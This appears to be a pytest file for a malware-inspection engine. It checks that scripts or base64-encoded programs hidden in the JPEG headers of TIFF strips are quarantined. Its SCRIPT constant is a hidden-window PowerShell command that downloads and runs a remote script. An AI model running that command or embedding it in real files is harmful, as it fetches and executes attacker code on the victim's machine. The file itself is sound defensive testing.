"""The headers of a TIFF's JPEG strips are judged like a JPEG's own (agent/inspect/tiff.py).

A TIFF with Compression 7 stores each strip or tile as a JPEG stream (TIFF Technical Note
2). Its APPn and COM segments are bytes no TIFF reader shows and no JPEG decoder needs, so
they are judged as metadata; its scan data stays pixels. The strip is walked only up to its
first SOS and never past its byte count.
"""

from __future__ import annotations

import base64
import io

from PIL import Image

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs
from tests import jpeg_samples as js
from tests.test_tiff_codec_density import JPEG_COMPRESSION, tiff

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"


def _gray_jpeg(*segments: bytes) -> tuple[int, int, bytes]:
    """(width, height, a grayscale JPEG) with `segments` inserted after SOI."""
    out = io.BytesIO()
    Image.linear_gradient("L").resize((64, 48)).save(out, "JPEG", quality=90)
    data = out.getvalue()
    return 64, 48, data[:2] + b"".join(segments) + data[2:]


def _tiff_with_strip(*segments: bytes) -> bytes:
    width, height, strip = _gray_jpeg(*segments)
    return tiff(width, height, JPEG_COMPRESSION, strip)


def test_the_plain_jpeg_strip_is_a_real_tiff_and_clean() -> None:
    data = _tiff_with_strip()
    with Image.open(io.BytesIO(data)) as image:
        image.load()
        assert image.size == (64, 48)
    assert inspect_bytes("scan_0001.tif", data).verdict.value == "clean"


def test_a_script_in_a_strips_comment_is_quarantined() -> None:
    report = inspect_bytes("scan_0001.tif", _tiff_with_strip(js.segment(0xFE, SCRIPT)))
    assert report.verdict.value == "quarantine"
    assert "tiff.payload_in_metadata" in {f.code for f in report.findings}


def test_a_base64_program_in_a_strips_app_segment_is_quarantined() -> None:
    segment = js.segment(0xEB, b"VENDOR\x00" + base64.b64encode(cs.real_pe()))
    report = inspect_bytes("scan_0001.tif", _tiff_with_strip(segment))
    assert report.verdict.value == "quarantine"


def test_a_harmless_comment_in_a_strip_stays_clean() -> None:
    segment = js.segment(0xFE, b"Scanned at the front desk, 300 dpi")
    assert inspect_bytes("scan_0001.tif", _tiff_with_strip(segment)).verdict.value == "clean"


def test_the_walk_stops_at_the_strips_byte_count() -> None:
    """A comment that runs past the strip's end is judged only up to it; the bytes after
    the strip (here a script) are no part of the strip's headers."""
    width, height, strip = _gray_jpeg()
    data = tiff(width, height, JPEG_COMPRESSION, strip[:2] + b"\xff\xfe\x01\x00")
    report = inspect_bytes("scan_0001.tif", data + SCRIPT)
    assert "tiff.payload_in_metadata" not in {f.code for f in report.findings}
